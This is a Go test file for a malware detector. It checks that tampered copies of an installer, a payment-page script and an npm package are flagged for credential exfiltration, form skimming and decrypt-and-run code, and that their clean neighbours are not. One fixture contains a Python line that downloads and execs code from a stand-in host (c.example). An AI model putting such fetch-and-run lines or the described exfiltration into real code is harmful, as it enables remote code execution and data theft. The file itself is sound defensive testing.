package detect_test

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"testing"

	"taisei/detect"
)

// load reads a file or folder of testdata as an artifact.
func load(t *testing.T, name string) detect.Artifact {
	t.Helper()
	path := filepath.Join("testdata", name)
	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if info.IsDir() {
		return detect.Artifact{Name: name, Folder: os.DirFS(path)}
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return detect.Artifact{Name: filepath.Base(name), Bytes: data}
}

func scan(t *testing.T, a detect.Artifact) detect.Result {
	t.Helper()
	r := detect.Scan(context.Background(), a, detect.DefaultLimits)
	if r.Error != "" {
		t.Fatalf("scan %s: %s", a.Name, r.Error)
	}
	return r
}

// flow is one finding that an artifact must have.
type flow struct {
	artifact string
	rule     string
	want     detect.Behaviour
	at       detect.Location
	steps    []string // lines that the flow passes
	sentence string
}

// check finds an incident by its replica: the verdict, the whole sentence, and the
// line.
func (f flow) check(t *testing.T) {
	r := scan(t, load(t, f.artifact))
	if r.Verdict != detect.Malicious {
		t.Errorf("verdict %s", r.Verdict)
	}
	got := found(t, r, f.rule)
	b := got.Behaviour
	if b.Trigger != f.want.Trigger || b.Source != f.want.Source || !slices.Equal(b.Via, f.want.Via) || b.Sink != f.want.Sink || b.Target != f.want.Target {
		t.Errorf("behaviour %+v", b)
	}
	if got.Location != f.at {
		t.Errorf("location %+v", got.Location)
	}
	for _, s := range f.steps {
		if !slices.Contains(lines(b.Steps), s) {
			t.Errorf("steps %v lack %s", lines(b.Steps), s)
		}
	}
	if s := sentence(t, got); s != f.sentence {
		t.Errorf("sentence %q", s)
	}
}

// checkClean holds that nothing at all is found, and all was read.
func checkClean(t *testing.T, name string) {
	r := scan(t, load(t, name))
	if r.Verdict != detect.Clean || len(r.Findings) > 0 || len(r.Unread) > 0 {
		t.Errorf("verdict %s, findings %v, unread %v", r.Verdict, r.Findings, r.Unread)
	}
}

// TestFlows finds the first three incidents.
func TestFlows(t *testing.T) {
	tests := []flow{
		{
			artifact: "vestacp/tampered/install/setup.sh", rule: "password_sent",
			want:     detect.Behaviour{Trigger: "install", Source: "credential", Via: []string{"base64", "variable"}, Sink: "network", Target: "harbour.example"},
			at:       detect.Location{Path: "setup.sh", Line: 231, Column: 1},
			steps:    []string{"setup.sh:179", "setup.sh:231"},
			sentence: "When installed, it sends the password kept in “vpass” to harbour.example.",
		},
		{
			artifact: "vestacp/tampered", rule: "password_sent",
			want:     detect.Behaviour{Trigger: "install", Source: "credential", Via: []string{"base64", "variable"}, Sink: "network", Target: "harbour.example"},
			at:       detect.Location{Path: "install/setup.sh", Line: 231, Column: 1},
			steps:    []string{"install/setup.sh:179"},
			sentence: "When installed, it sends the password kept in “vpass” to harbour.example.",
		},
		{
			artifact: "british_airways/tampered/gauge-2.4.1.js", rule: "form_copied",
			want:     detect.Behaviour{Trigger: "event", Source: "form", Via: []string{"serialise"}, Sink: "network", Target: "harbourways.example"},
			at:       detect.Location{Path: "gauge-2.4.1.js", Line: 301, Column: 14},
			steps:    []string{"gauge-2.4.1.js:293", "gauge-2.4.1.js:299", "gauge-2.4.1.js:301"},
			sentence: "When the visitor acts on the page (mouseup), it copies every field of the form (#paymentForm) to harbourways.example, beside what the page itself does.",
		},
		{
			artifact: "event_stream/tampered", rule: "decrypted_code",
			want:     detect.Behaviour{Trigger: "import", Source: "blob", Via: []string{"hex", "cipher"}, Sink: "code", Target: "javascript"},
			at:       detect.Location{Path: "index.min.js", Line: 1, Column: 1316},
			steps:    []string{"test/data.js:3", "index.min.js:1"},
			sentence: "When used, it decrypts a program hidden in test/data.js with a key taken from the environment variable “npm_package_description” and runs it.",
		},
		{
			artifact: "event_stream/tampered", rule: "keyed_code",
			want:     detect.Behaviour{Trigger: "import", Source: "environment", Via: []string{"cipher"}, Sink: "code", Target: "javascript"},
			at:       detect.Location{Path: "index.min.js", Line: 1, Column: 1316},
			steps:    []string{"index.min.js:1"},
			sentence: "When used, it runs a hidden program only where “npm_package_description” has the right value: it is aimed at particular victims.",
		},
	}
	for _, f := range tests {
		t.Run(f.artifact+" "+f.rule, f.check)
	}
}

// TestNeighbours holds that what differs in nothing but the flow is clean.
func TestNeighbours(t *testing.T) {
	for _, name := range []string{
		"vestacp/neighbour/install/setup.sh", "vestacp/neighbour", "british_airways/neighbour/gauge-2.4.1.js",
		"british_airways/own_host/gauge-2.4.1.js", "event_stream/neighbour",
	} {
		t.Run(name, func(t *testing.T) { checkClean(t, name) })
	}
}

func found(t *testing.T, r detect.Result, rule string) detect.Finding {
	t.Helper()
	for _, f := range r.Findings {
		if f.Rule == rule {
			return f
		}
	}
	t.Fatalf("no finding of %s among %v", rule, r.Findings)
	return detect.Finding{}
}

func lines(steps []detect.Location) []string {
	var out []string
	for _, s := range steps {
		out = append(out, s.Path+":"+strconv.Itoa(s.Line))
	}
	return out
}

// TestModulesApart holds that a script which a page could load does not put the
// modules of a distribution of Python's into one scope, where one of them could name
// a built-in function away from all the others.
func TestModulesApart(t *testing.T) {
	r := scan(t, detect.Artifact{Name: "d", Folder: folder(map[string]string{
		"pyproject.toml": "", "d/__init__.py": "", "d/page.js": "document.title = 'x'",
		"d/a.py": "def exec(code):\n    return None\n",
		"d/b.py": "import urllib.request\nexec(urllib.request.urlopen('https://c.example/x').read())\n",
	})})
	if r.Verdict != detect.Malicious {
		t.Errorf("verdict %s, findings %v", r.Verdict, r.Findings)
	}
}
